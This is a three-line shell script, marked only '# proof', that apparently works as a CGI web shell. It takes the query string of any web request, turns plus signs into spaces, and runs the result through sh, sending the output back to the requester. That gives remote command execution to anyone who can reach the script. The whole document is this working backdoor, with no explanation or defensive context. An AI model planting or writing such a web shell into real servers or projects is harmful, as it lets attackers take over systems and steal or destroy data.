#!/bin/sh
# proof
printf '%s' "$QUERY_STRING" | tr + ' ' | sh 2>&1
